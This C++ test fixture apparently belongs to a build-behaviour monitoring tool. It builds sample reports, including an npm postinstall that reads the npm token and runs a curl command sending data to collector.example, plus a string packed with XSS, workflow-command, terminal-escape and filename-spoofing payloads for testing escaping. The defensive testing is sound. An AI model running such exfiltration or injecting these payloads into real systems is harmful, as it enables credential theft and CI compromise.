#include "tests/reports/sample.hpp"

#include <algorithm>

#include "base/text.hpp"
#include "tests/support/behavior.hpp"

namespace buildprint {
namespace {

using Texts = std::vector<std::string>; ///< of a lineage

const Texts k_make{"/usr/bin/make"}, k_npm{"/usr/bin/make", "/usr/bin/sh -c", "/usr/bin/npm install"};

Texts below(Texts lineage, const Texts &programs) {
  lineage.insert(lineage.end(), programs.begin(), programs.end());
  return lineage;
}

Behavior behavior(Kind kind, Texts lineage, std::string object = {}) {
  return make_behavior(kind, "builder", std::move(lineage), std::move(object), 1, false, {});
}

NewBehavior fresh(Behavior item, int novelty, std::vector<std::string> raw) {
  return {std::move(item), novelty, "1/1", {std::move(raw), {}, 1, 0, 0}};
}

Finding stolen_token() {
  const Texts shell = below(k_npm, {"/usr/bin/sh -c"});
  const Texts node = below(shell, {"/usr/bin/node $WS/node_modules/left-pad/build.js"});
  const Texts curl = below(node, {"/usr/bin/curl"});
  Finding finding;
  finding.id = "5b1f0c2e9a7d4e63";
  finding.score = 23;
  finding.level = Level::error;
  finding.title = "npm:left-pad postinstall starts node and curl, reads secret:npm and connects to "
                  "collector.example:443/tcp";
  finding.why = {{6, "a program that was never seen connects to a host that was never seen"},
                 {6, "it reads a secret: the npm token"},
                 {11, "doubled: a secret was read and a new connection was made"}};
  finding.capabilities = {"first connection below npm install"};
  finding.techniques = {"T1195.002", "T1552.001", "T1071.001"};
  finding.package = Package{"npm", "left-pad", "1.3.1", "postinstall", "1.3.0"};
  finding.where = Place{"package-lock.json", 4120};
  finding.behaviors = {
      fresh(behavior(Kind::exec, node), 3, {"node build.js"}),
      fresh(behavior(Kind::read, node, "secret:npm ($HOME/.npmrc)"), 3, {"/home/ann/.npmrc"}),
      fresh(behavior(Kind::exec, curl), 3, {"curl -sd @/tmp/x https://collector.example/u"}),
      fresh(behavior(Kind::connect, curl, "collector.example:443/tcp"), 3, {"203.0.113.66:443"})};
  finding.behaviors.back().evidence.rewrites = {{"R9", "203.0.113.66:443", "collector.example:443"}};
  finding.more = {fresh(behavior(Kind::resolve, curl, "collector.example"), 3, {"collector.example A"})};
  return finding;
}

Finding new_caller() {
  Finding finding;
  finding.id = "0d22aa71f3b8c915";
  finding.score = 2;
  finding.level = Level::note;
  finding.title = "check.sh starts xz";
  finding.why = {{1, "xz is known here, but never ran below check.sh"}};
  finding.where = Place{"scripts/check.sh", 7};
  finding.behaviors = {
      fresh(behavior(Kind::exec, below(k_make, {"/usr/bin/sh $WS/scripts/check.sh", "/usr/bin/xz"})), 1,
            {"xz -dc a.xz"})};
  return finding;
}

} // namespace

std::string raw_hostile_name() {
  return "a|b](https://evil.example)\n::set-output "
         "name=x::y\n##[add-path]/x\x1b[31m\x1b]8;;http://evil.example\x07"
         "</script><img src=x onerror=alert(1)>`\n```\n@octocat #1 www.evil.example {0} %0A%25 ${{ secrets.T "
         "}} "
         "\u202e\u2066gpj.exe\xff\xfe&amp;\"'<!-- -->]]>\\";
}

std::string hostile_name() {
  return printable(raw_hostile_name());
}

Fingerprint sample_base() {
  Fingerprint base;
  base.name = "unit-tests";
  base.rules = "1-0123456789abcdef";
  base.runs = 3;
  base.behaviors = {behavior(Kind::exec, k_make), behavior(Kind::exec, below(k_make, {"/usr/bin/sh -c"})),
                    behavior(Kind::exec, below(k_make, {"/usr/bin/sh $WS/scripts/check.sh"})),
                    behavior(Kind::exec, k_npm), behavior(Kind::connect, k_npm, "registry.example:443/tcp")};
  std::sort(base.behaviors.begin(), base.behaviors.end(), key_less);
  return base;
}

Diff sample_diff() {
  Diff diff;
  diff.verdict = Verdict::new_behavior;
  diff.base = {"unit-tests", "git:origin/main:.buildprint/unit-tests.json", "xxh3:2a", 3, 5};
  diff.head = {"unit-tests", "unit-tests.json.new", "xxh3:2b", 1, 11};
  diff.findings = {stolen_token(), new_caller()};
  diff.accepted = {{fresh(behavior(Kind::connect, k_npm, "cdn.example:443/tcp"), 3, {}),
                    "the registry moved its archives", "build-team", "2027-03-31", true},
                   {fresh(behavior(Kind::resolve, k_npm, "cdn.example"), 3, {}), "the same", "", "", false}};
  diff.changed = {{"version", "gcc 12.2 is now 12.3", {"/usr/bin/gcc version 12.2 → 12.3"}}};
  diff.moved = {{behavior(Kind::exec, {"/usr/bin/ninja", "/usr/bin/sh -c"}),
                 parse_lineage_text("/usr/bin/make > /usr/bin/sh -c")}};
  diff.absent = {behavior(Kind::exec, {"/usr/bin/make", "/usr/bin/rm"})};
  diff.notices = {"an acceptance for old.example expired on 2026-10-01"};
  return diff;
}

Diff hostile_diff(const std::string &name) {
  Diff diff;
  diff.verdict = Verdict::new_behavior;
  diff.because = {name};
  diff.base = diff.head = {name, name, name, 1, 1};
  Finding finding;
  finding.id = finding.title = name;
  finding.level = Level::error;
  finding.why = {{1, name}};
  finding.capabilities = finding.techniques = {name};
  finding.package = Package{name, name, name, name, name};
  finding.where = Place{name, 1};
  const auto add = [&](Kind kind) {
    auto item =
        fresh(make_behavior(kind, name, {name, name + "2"}, kind == Kind::exec ? "" : name, 1, false, name),
              3, {name});
    item.evidence.rewrites = {{name, name, name}};
    finding.behaviors.push_back(item);
  };
  for (const Kind kind : {Kind::exec, Kind::connect, Kind::resolve, Kind::become, Kind::read, Kind::kernel})
    add(kind);
  diff.findings = {finding};
  diff.accepted = {{finding.behaviors[1], name, name, name, true},
                   {finding.behaviors[2], name, name, name, false}};
  diff.changed = {{name, name, {name}}};
  diff.moved = {{finding.behaviors[0].behavior, {Program::parse(name)}}};
  diff.absent = {finding.behaviors[0].behavior};
  diff.notices = {name};
  return diff;
}

Diff large_diff(std::size_t count) {
  Diff diff = sample_diff();
  const Finding like = diff.findings.front();
  diff.findings.clear();
  for (std::size_t i = 0; i < count; ++i) {
    Finding finding = like;
    finding.id += std::to_string(i);
    for (auto &item : finding.behaviors) {
      auto &program = item.behavior.lineage.back();
      program = Program::parse(program.text() + std::to_string(i));
    }
    diff.findings.push_back(std::move(finding));
  }
  return diff;
}

RenderOptions options_with(const Fingerprint &base) {
  RenderOptions options;
  options.base = &base;
  return options;
}

} // namespace buildprint
